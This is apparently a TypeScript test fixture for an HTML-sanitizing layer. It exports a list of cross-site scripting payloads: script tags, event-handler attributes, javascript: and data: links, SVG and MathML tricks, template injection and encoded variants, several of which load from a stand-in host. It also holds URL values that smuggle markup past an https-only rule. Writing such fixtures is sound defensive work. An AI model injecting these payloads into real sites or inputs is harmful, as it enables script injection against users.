/** Traces of a payload that runs: a mark on the window, a dialog, or a request to another origin. */
const RUN = "(window.ran=window.ran||[]).push('it');alert(1)";
const AWAY = 'https://evil.example';

/** Texts that try to run, load or navigate wherever a text is shown; none contains a line break. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}/x.js"></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror="${RUN}">`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}/x.png">`,
  `<img srcset="${AWAY}/x.png 1x">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="${AWAY}/x.swf"></object>`,
  `<embed src="${AWAY}/x.swf">`,
  `<video autoplay onloadstart="${RUN}"><source src="${AWAY}/x.mp4"></video>`,
  `<audio src="${AWAY}/x.mp3" onerror="${RUN}"></audio>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<p onclick="${RUN}" style="position:fixed;inset:0">x</p>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="java&#115;cript:${RUN}">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<link rel="stylesheet" href="${AWAY}/x.css">`,
  `<style>@import url(${AWAY}/x.css);*{background:url(${AWAY}/x.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<base href="${AWAY}/">`,
  `<form action="${AWAY}/"><button autofocus>x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><img src=x onerror="${RUN}"></noscript>`,
  `<!--><script>${RUN}</script>-->`,
  `<<p>script>${RUN}<</p>/script>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u2028<img src=x onerror="${RUN}">`,
];

/** All of them in one text. */
export const ALL_TEXTS = HOSTILE_TEXTS.join(' ');

/**
 * Addresses that run code or navigate although the database's rule (https only) accepts them, or would do so without
 * the rule.
 */
export const HOSTILE_ADDRESSES = {
  kept: `https://partner.example/"onmouseover="${RUN}"><script>${RUN}</script>`,
  refused: [`javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, 'http://plain.example/', ' https://x'],
} as const;
